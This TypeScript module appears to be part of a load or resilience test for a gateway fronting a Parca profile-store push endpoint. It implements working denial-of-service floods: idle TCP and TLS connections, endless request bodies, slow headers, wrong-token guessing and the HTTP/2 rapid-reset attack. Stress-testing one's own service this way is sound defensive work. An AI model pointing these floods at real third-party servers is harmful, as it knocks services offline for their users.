import { connect } from 'node:net';
import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as tlsConnect } from 'node:tls';
import { GATEWAY, HOST } from './deployment';
import { FRAME, frame, headersFrame, PREFACE } from './wire';

/** A way to cost the gateway something without a valid token. */
export type FloodKind = 'idle TCP' | 'TLS without a request' | 'endless bodies' | 'slow headers' | 'wrong tokens' | 'rapid reset';

/** How many connections each keeps trying to have, and how many attempts it makes in all. */
const SIZES: Readonly<Record<FloodKind, { readonly connections: number; readonly attempts: number }>> = {
  'idle TCP': { connections: 2000, attempts: 8000 },
  'TLS without a request': { connections: 2000, attempts: 4000 },
  'endless bodies': { connections: 260, attempts: 2000 },
  'slow headers': { connections: 500, attempts: 2000 },
  'wrong tokens': { connections: 100, attempts: 2000 },
  'rapid reset': { connections: 50, attempts: 1000 },
};

export interface Flood {
  readonly kind: FloodKind;
  /** The first three numbers of its addresses. */
  readonly network: string;
  readonly addresses: number;
  readonly seconds: number;
}

export interface FloodResult { readonly attempts: number; readonly accepted: number; readonly openAtEnd: number }

const BATCH = 100;
/** An error code of HTTP/2. */
const CANCEL = Buffer.from([0, 0, 0, 8]);
let guesses = 0;
const STREAMS = 100;
const PUSH_PATH = '/parca.profilestore.v1alpha1.ProfileStoreService/WriteRaw';

/** Runs one flood to its end; each connection that is closed is tried again, up to a number of attempts. */
export async function flood({ kind, network, addresses, seconds }: Flood): Promise<FloodResult> {
  const { connections, attempts: most } = SIZES[kind];
  const open = new Set<Socket>();
  const seen = { attempts: 0, accepted: 0 };
  const deadline = Date.now() + seconds * 1000;
  while (Date.now() < deadline) {
    for (let count = 0; count < BATCH && open.size < connections && seen.attempts < most; count++) {
      const socket = attack(kind, `${network}.${seen.attempts++ % addresses + 1}`, () => seen.accepted++);
      open.add(socket);
      socket.on('error', () => undefined);
      socket.on('close', () => open.delete(socket));
      socket.resume();
    }
    await sleep(20);
  }
  const result = { ...seen, openAtEnd: open.size };
  open.forEach(socket => socket.destroy());
  return result;
}

function attack(kind: FloodKind, localAddress: string, accepted: () => void): Socket {
  if (kind === 'idle TCP') {
    const socket = connect({ ...GATEWAY, localAddress });
    // One that is refused is closed at once.
    const timer = setTimeout(() => { if (!socket.destroyed) { accepted(); } }, 500);
    return socket.on('close', () => clearTimeout(timer));
  }
  const socket = tlsConnect({ ...GATEWAY, ...{ localAddress }, servername: HOST, rejectUnauthorized: false, ALPNProtocols: ['h2'] }, () => {
    accepted();
    send(kind, socket);
  });
  return socket;
}

function send(kind: FloodKind, socket: Socket): void {
  const post = [[':method', 'POST'], [':scheme', 'https'], [':authority', HOST], [':path', PUSH_PATH], ['content-type', 'application/grpc']] as const;
  const streams = Array.from({ length: STREAMS }, (_, index) => 2 * index + 1);
  const writeAll = (frames: readonly Buffer[]): void => { socket.write(Buffer.concat([PREFACE, ...frames])); };
  switch (kind) {
    case 'idle TCP':
    case 'TLS without a request':
      break;
    case 'endless bodies':
      writeAll(streams.flatMap(stream => [headersFrame(stream, post), frame(FRAME.data, 0, stream, Buffer.alloc(600))]));
      break;
    case 'slow headers': {
      socket.write(PREFACE);
      // The head of a frame that says that more will come, and then a byte at a time.
      socket.write(headersFrame(1, post).subarray(0, 12));
      const timer = setInterval(() => socket.write('\0'), 200);
      socket.on('close', () => clearInterval(timer));
      break;
    }
    case 'wrong tokens':
      writeAll(streams.map(stream => headersFrame(stream, [...post, ['authorization', `Bearer wrong-guess-${guesses++}`]], true)));
      break;
    case 'rapid reset':
      writeAll(streams.flatMap(stream => [headersFrame(stream, post), frame(FRAME.reset, 0, stream, CANCEL)]));
      break;
  }
}

// As a program of its own, so that who pushes meanwhile is not slowed down by who attacks.
if (require.main === module) {
  void flood(JSON.parse(process.argv[2]) as Flood).then(result => {
    process.stdout.write(JSON.stringify(result));
    process.exit(0);
  });
}
